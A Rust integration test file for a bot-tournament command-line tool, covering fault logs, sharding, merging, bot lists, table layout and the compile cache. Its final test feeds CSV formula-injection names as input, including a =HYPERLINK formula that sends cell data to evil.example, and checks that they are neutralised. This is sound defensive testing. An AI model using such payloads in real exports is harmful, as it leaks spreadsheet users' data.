//! What people see of a tournament: faults, tables for many bots, lists of bots, finished tournaments.

use crate::common;
use crate::common::place::{KINGDOM, Place};
use crate::common::{run, words, write};
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

/// A bot that says something and then traps, or loops, in every turn.
fn faulty(dir: &Path, name: &str, end: &str) {
    let text = format!(
        r#"(module
            (import "arena" "log" (func $log (param i32 i32)))
            (memory (export "memory") 1)
            (data (i32.const 0) "reading the map")
            (func (export "turn") (call $log (i32.const 0) (i32.const 15)) {end}))"#
    );
    write(dir, name, wat::parse_str(text).unwrap());
}

#[test]
fn the_first_fault_of_each_bot_is_shown_with_its_log_and_all_are_counted_and_kept() {
    let place = Place::new();
    faulty(&place.path(""), "broken.wasm", "unreachable");
    let run = place.run(
        "tournament kingdom steady.wasm broken.wasm --matches 6 --jobs 2 --keep-faults faults --keep-replays replays",
    );
    assert_eq!(run.code, Some(0), "{run:?}");
    assert_eq!(run.err.matches("first fault in turn").count(), 1, "{}", run.err);
    let first = run
        .err
        .lines()
        .find(|line| line.contains("first fault in turn"))
        .unwrap();
    assert!(
        first.starts_with("broken, match ") && first.contains("unreachable"),
        "{first}"
    );
    assert!(run.err.contains("its log:\n  | reading the map"), "{}", run.err);
    let counts = "faults (turns that ended in a trap or past the budget):\n  broken: ";
    assert!(
        run.err.contains(counts) && run.err.contains("in 6 matches"),
        "{}",
        run.err
    );
    assert!(!run.err.contains("  steady: "), "{}", run.err);

    let kept: Vec<_> = fs::read_dir(place.path("faults")).unwrap().collect();
    assert_eq!(kept.len(), 6);
    let report = kept[0].as_ref().unwrap().path();
    let report = fs::read_to_string(report).unwrap();
    assert!(
        report.contains("reading the map") && report.contains("unreachable"),
        "{report}"
    );
    let command = report
        .lines()
        .find(|line| line.contains("arena play"))
        .unwrap()
        .trim();
    let again = place.script(command).output().unwrap();
    let again = String::from_utf8(again.stdout).unwrap();
    assert!(again.contains("Kingdom Guard"), "{command}\n{again}");
    for number in 0..6 {
        let bots = "--bot steady.wasm --bot broken.wasm";
        let said = place.done(&format!("replay replays/match-{number}.arena {bots}"));
        assert!(said.contains("Kingdom Guard"), "{said}");
    }
}

#[test]
fn a_program_that_changed_is_noticed_when_its_tournament_is_resumed_or_merged() {
    let place = Place::new();
    let bot = |text: &str| {
        write(&place.path(""), "bot.sh", text);
    };
    bot("echo M,C,2,4");
    let command = |more: &str| {
        let mut arguments = words("tournament kingdom steady.wasm --budget 5s --matches 2")
            .into_iter()
            .map(String::from)
            .collect::<Vec<_>>();
        arguments.insert(3, "cmd:sh bot.sh".into());
        arguments.extend(words(more).into_iter().map(String::from));
        arguments
    };
    let done = |more: &str| {
        run(
            &place.path(""),
            &command(more).iter().map(String::as_str).collect::<Vec<_>>(),
        )
    };
    assert_eq!(done("--out one --shard 1/2").code, Some(0));
    assert_eq!(done("--out one --shard 1/2").code, Some(0));
    bot("echo M,C,2,0");
    let changed = done("--out one --shard 1/2");
    assert_eq!(changed.code, Some(2));
    assert!(changed.err.contains("program of sh bot.sh: "), "{}", changed.err);
    assert_eq!(done("--out two --shard 2/2").code, Some(0));
    place.refused(
        2,
        "merge one two",
        &[
            "two and one are of different tournaments",
            "program of sh bot.sh: ",
        ],
    );
}

#[test]
fn lists_give_bots_and_names_and_missing_matches_are_played_by_them() {
    let place = Place::new();
    write(
        &place.path(""),
        "bots.txt",
        "# three\nAnn = steady.wasm\n策略 = shaky.wasm\nclumsy.wasm\n",
    );
    let table = place.done("tournament kingdom --bots-from bots.txt --matches 12 --out whole");
    assert!(
        table.contains("Ann") && table.contains("策略") && table.contains("clumsy"),
        "{table}"
    );
    assert!(
        place
            .read("whole/results.jsonl")
            .contains(r#""seats":["Ann","策略"]"#)
    );
    place.done("tournament kingdom --bots-from bots.txt --matches 12 --shard 1/2 --out half");
    let merged = place.run("merge half");
    assert_eq!(merged.code, Some(1));
    let command = common::place::commands_in(&merged.err).next().unwrap();
    assert!(command.contains("--bots-from half/tournament.json"), "{command}");
    assert_eq!(place.script(command).status().unwrap().code(), Some(0));
    assert_eq!(place.done("merge half shard-2-of-2"), table);

    place.refused(2, "tournament kingdom --bots-from none.txt", &["none.txt"]);
    write(&place.path(""), "bad.txt", "steady.wasm\nhouse:\n");
    place.refused(
        2,
        "tournament kingdom --bots-from bad.txt",
        &["bad.txt", "line 2"],
    );
    write(&place.path(""), "one.txt", "steady.wasm\n");
    place.refused(
        2,
        "tournament kingdom --bots-from one.txt",
        &["two or more bots", "there is one"],
    );
}

#[test]
fn many_bots_are_shown_in_forty_lines_and_kept_as_a_whole() {
    let place = Place::new();
    let module = fs::read(place.path("steady.wasm")).unwrap();
    let mut list = String::new();
    for bot in 0..200 {
        list += &format!("机器人 with a long name, number {bot} = copy{bot}.wasm\n");
    }
    (0..200).for_each(|bot| {
        write(&place.path(""), &format!("copy{bot}.wasm"), &module);
    });
    write(&place.path(""), "bots.txt", list);
    let mut command =
        place.start("tournament kingdom --bots-from bots.txt --matches 200 --jobs 2 --out many");
    let run: common::Run = command.env("COLUMNS", "80").output().unwrap().into();
    assert_eq!(run.code, Some(0), "{run:?}");
    assert!(run.out.lines().count() <= 40, "{}", run.out);
    // Wide characters take two cells.
    let cells = |line: &str| {
        line.chars()
            .map(|c| if c > '\u{3000}' { 2 } else { 1 })
            .sum::<usize>()
    };
    assert!(run.out.lines().all(|line| cells(line) <= 80), "{}", run.out);
    assert!(
        run.out.contains("many/table.csv") && run.out.contains("strength"),
        "{}",
        run.out
    );
    assert_eq!(place.read("many/table.csv").lines().count(), 201);
    let json: serde_json::Value = serde_json::from_str(&place.read("many/table.json")).unwrap();
    assert_eq!(json["bots"].as_array().unwrap().len(), 200);
    assert_eq!(json["head_to_head"][7].as_array().unwrap().len(), 200);
    assert!(
        place
            .read("many/head-to-head.csv")
            .starts_with("bot,other,ahead,level,behind\r\n")
    );
}

/// Name, content and time of each file in a directory.
fn files(dir: &Path) -> Vec<(std::ffi::OsString, Vec<u8>, i64, i64)> {
    let mut files: Vec<_> = fs::read_dir(dir)
        .unwrap()
        .map(|entry| {
            let entry = entry.unwrap();
            let metadata = entry.metadata().unwrap();
            (
                entry.file_name(),
                fs::read(entry.path()).unwrap(),
                metadata.mtime(),
                metadata.mtime_nsec(),
            )
        })
        .collect();
    files.sort();
    files
}

#[test]
fn a_finished_tournament_is_shown_again_without_writing_anything() {
    let place = Place::new();
    let words = format!("{KINGDOM} --matches 12 --out k");
    let table = place.done(&words);
    // Root may write anywhere, so that nothing is written is seen by what is there.
    fs::remove_file(place.path("k/.lock")).unwrap();
    let before = files(&place.path("k"));
    assert_eq!(place.done(&words), table);
    assert_eq!(place.done("merge k"), table);
    assert!(files(&place.path("k")) == before);
    place.done(&format!("{KINGDOM} --matches 12 --shard 1/2 --out half"));
    fs::remove_file(place.path("half/.lock")).unwrap();
    let before = files(&place.path("half"));
    place.done(&format!("{KINGDOM} --matches 12 --shard 1/2 --out half"));
    assert!(files(&place.path("half")) == before);
}

#[test]
fn modules_are_compiled_once_and_the_cache_can_be_switched_off_or_damaged() {
    let place = Place::new();
    let cache = place.path("cache");
    let play = |more: &str, cache: &Path| {
        let words = format!("tournament kingdom steady.wasm shaky.wasm --matches 2 {more}");
        let mut command = place.start(&words);
        let run: common::Run = command.env("ARENA_CACHE", cache).output().unwrap().into();
        assert_eq!(run.code, Some(0), "{run:?}");
        run.out
    };
    let table = play("--out a", &cache);
    let entries = files(&cache);
    assert_eq!(entries.len(), 2);
    assert_eq!(fs::metadata(&cache).unwrap().mode() & 0o777, 0o700);
    assert_eq!(play("--out b", &cache), table);
    assert!(files(&cache) == entries, "compiled anew");
    // A shard that does not play a bot does not compile it.
    let other = place.path("other");
    let words = "tournament kingdom steady.wasm shaky.wasm clumsy.wasm --matches 3 --shard 1/3 --out c";
    let run = place.start(words).env("ARENA_CACHE", &other).output().unwrap();
    assert!(run.status.success());
    assert_eq!(files(&other).len(), 2);
    // A damaged entry is rebuilt, to the byte.
    for (name, bytes, ..) in &entries {
        let mut bytes = bytes.clone();
        let middle = bytes.len() / 2;
        bytes[middle] ^= 0xff;
        fs::write(cache.join(name), bytes).unwrap();
    }
    assert_eq!(play("--out d", &cache), table);
    let contents = |files: Vec<(std::ffi::OsString, Vec<u8>, i64, i64)>| -> Vec<_> {
        files.into_iter().map(|(name, bytes, ..)| (name, bytes)).collect()
    };
    assert!(contents(files(&cache)) == contents(entries));
    for (more, cache) in [
        ("--out e --no-cache", &place.path("never")),
        ("--out f", &"off".into()),
    ] {
        assert_eq!(play(more, cache), table);
        assert!(!cache.exists() && !place.path("off").exists());
    }
}

#[test]
fn no_cell_is_a_formula_or_loses_digits_in_a_spreadsheet() {
    let place = Place::new();
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ann\")",
        "-2+3",
        "＠SUM(A1;-1)",
    ];
    let bots = ["steady.wasm", "shaky.wasm", "clumsy.wasm"];
    let list: Vec<_> = names
        .iter()
        .zip(bots)
        .map(|(name, bot)| format!("{name} = {bot}"))
        .collect();
    write(
        &place.path(""),
        "bots.txt",
        format!("\u{feff}{}\n", list.join("\n")),
    );
    place.done("tournament kingdom --bots-from bots.txt --matches 6 --out out");
    place.done("merge out --csv results.csv");
    let expected = [
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Ann\"\")\"",
        "'-2+3",
        "'＠SUM(A1;'-1)",
    ];
    for file in ["out/table.csv", "out/head-to-head.csv", "results.csv"] {
        let text = place.read(file);
        for name in expected {
            assert!(
                text.contains(&format!(",{name},")) || text.contains(&format!("\n{name},")),
                "{file}: {text}"
            );
        }
        assert!(
            !text.contains(",-2+3,") && !text.contains("\n-2+3,"),
            "{file}: {text}"
        );
    }
    let seeds = place.read("results.csv");
    let seeds: Vec<_> = seeds
        .lines()
        .skip(1)
        .filter_map(|line| line.split(',').nth(1))
        .collect();
    assert_eq!(seeds.len(), 12);
    for (line, seed) in place.read("out/results.jsonl").lines().zip(seeds.chunks(2)) {
        let digits = seed[0].strip_prefix('\'').unwrap();
        assert!(
            seed[0] == seed[1] && line.contains(&format!("\"seed\":{digits},")),
            "{line}: {seed:?}"
        );
    }
    // The other files have the names as they are, and all of it is read again.
    assert!(place.read("out/table.json").contains("\"bot\":\"-2+3\""));
    place.done("audit out --share 100%");
    // Tables from before there was this rule are still those of the results.
    for file in ["out/table.csv", "out/head-to-head.csv"] {
        fs::write(place.path(file), place.read(file).replace('\'', "")).unwrap();
    }
    place.done("audit out --share 100%");
}
